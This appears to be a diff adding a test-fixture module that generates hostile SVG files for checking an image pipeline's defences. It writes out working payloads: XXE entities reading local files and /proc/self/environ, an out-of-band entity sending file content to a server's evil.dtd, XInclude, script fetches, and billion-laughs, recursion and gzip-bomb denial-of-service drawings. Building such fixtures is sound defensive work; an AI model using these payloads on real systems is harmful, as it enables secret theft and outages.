@@ -1,0 +1,108 @@
+/** Drawings (svg) that ask for what is elsewhere, or for more than a machine has. */
+import { gzipSync } from 'node:zlib'
+import { type HostileFile, hostile, type Targets } from './hostile-file.ts'
+
+const namespaces = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
+const size = 'width="60" height="40"'
+
+function svg(content: string, prolog = ''): string {
+  return `${prolog}<svg ${namespaces} ${size}>${content}</svg>`
+}
+
+export function reachingDrawings(targets: Targets): HostileFile[] {
+  const { http, http6, picture, text, unixSocket, beside } = targets
+  const image = (href: string) => `<image href="${href}" xlink:href="${href}" ${size}/>`
+  const entity = (declaration: string) => svg('<text y="20">&x;</text>', `<!DOCTYPE svg [${declaration}]>`)
+  const nested = Buffer.from(svg(image(`file://${picture}`))).toString('base64')
+  const drawing = (what: string, content: string) =>
+    hostile('reach', what, 'holiday photo.png', content, ['png', 'jpg'])
+  return [
+    drawing('svg: pictures on servers', svg(image(`${http}/a.png`) + image(`${http6}/a.png`))),
+    drawing('svg: a picture by its path', svg(image(picture) + image(`file://${picture}`))),
+    drawing('svg: a picture of another job', svg(image(beside.picture) + image(`./${beside.picture}`))),
+    drawing(
+      'svg: a shape of another file',
+      svg(`<use href="${http}/b.svg#x"/><use href="file://${text}#x"/>`),
+    ),
+    drawing(
+      'svg: style sheets and paints from elsewhere',
+      svg(
+        `<style>@import url("${http}/c.css"); @font-face { font-family: f; src: url("${http}/f.woff") } rect { fill: url("${http}/d.svg#p"); filter: url("file://${text}#f") }</style><rect ${size}/><text font-family="f" y="20">a</text>`,
+        `<?xml-stylesheet type="text/css" href="${http}/e.css"?>`,
+      ),
+    ),
+    drawing('svg: an entity from the disk', entity(`<!ENTITY x SYSTEM "file://${text}">`)),
+    drawing('svg: an entity of the environment', entity('<!ENTITY x SYSTEM "file:///proc/self/environ">')),
+    drawing('svg: an entity from a server', entity(`<!ENTITY x SYSTEM "${http}/entity">`)),
+    drawing(
+      'svg: entities of parameters that carry a file out',
+      entity(
+        `<!ENTITY % f SYSTEM "file://${text}"><!ENTITY % d SYSTEM "${http}/evil.dtd"> %d; <!ENTITY x "%f;">`,
+      ),
+    ),
+    drawing(
+      'svg: an outside document type',
+      svg('<text y="20">a</text>', `<!DOCTYPE svg SYSTEM "${http}/svg.dtd">`),
+    ),
+    drawing(
+      'svg: a text included by XInclude',
+      svg(
+        `<text y="20"><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://${text}" parse="text"/></text>`,
+      ),
+    ),
+    drawing('svg: a drawing in a drawing', svg(image(`data:image/svg+xml;base64,${nested}`))),
+    drawing(
+      'svg: a page in a drawing',
+      svg(
+        `<foreignObject ${size}><iframe xmlns="http://www.w3.org/1999/xhtml" src="file://${text}"/></foreignObject><script href="${http}/s.js"/><script>fetch("${http}/run")</script>`,
+      ),
+    ),
+    drawing(
+      'svg: a socket of this machine',
+      svg(image(`unix://${unixSocket}`) + image(`file://${unixSocket}`)),
+    ),
+    {
+      ...drawing('svgz: a picture by its path', ''),
+      content: gzipSync(svg(image(`file://${picture}`))),
+    },
+  ]
+}
+
+export function heavyDrawings(): HostileFile[] {
+  const laughs = Array.from({ length: 12 }, (_, n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`)
+  const bomb = (what: string, content: string | Buffer) => hostile('bomb', what, 'drawing.svg', content)
+  const copies = Array.from(
+    { length: 18 },
+    (_, n) => `<g id="g${n + 1}"><use href="#g${n}"/><use href="#g${n}" x="1"/></g>`,
+  )
+  return [
+    bomb(
+      'svg: a billion laughs',
+      svg('<text>&e12;</text>', `<!DOCTYPE svg [<!ENTITY e0 "ha">${laughs.join('')}]>`),
+    ),
+    bomb(
+      'svg: an endless blur',
+      svg(
+        `<filter id="b" x="-9e9" y="-9e9" width="9e9" height="9e9"><feGaussianBlur stdDeviation="1e9"/><feMorphology operator="dilate" radius="1e9"/><feTurbulence numOctaves="1000000"/></filter><rect filter="url(#b)" ${size}/>`,
+      ),
+    ),
+    bomb('svg: shapes of shapes of shapes', svg(`<g id="g0"><rect ${size}/></g>${copies.join('')}`)),
+    bomb('svg: a shape inside itself', svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>')),
+    bomb(
+      'svg: boxes in boxes',
+      `<svg ${namespaces} ${size}>${'<g>'.repeat(100_000)}${'</g>'.repeat(100_000)}</svg>`,
+    ),
+    bomb(
+      'svg: larger than the sky',
+      `<svg ${namespaces} width="1e30" height="1e30"><rect width="9" height="9"/></svg>`,
+    ),
+    bomb('svg: of no size', `<svg ${namespaces} width="0" height="0"/>`),
+    bomb(
+      'svg: a pattern of atoms',
+      svg(
+        '<pattern id="p" width="1e-9" height="1e-9" patternUnits="userSpaceOnUse"><rect width="1" height="1"/></pattern><rect width="60" height="40" fill="url(#p)"/><path stroke-dasharray="1e-9" stroke="#000" d="M0 0H60V40"/>',
+      ),
+    ),
+    bomb('svgz: spaces without end', gzipSync(Buffer.from(svg(' '.repeat(80 * 1024 * 1024))))),
+  ]
+}
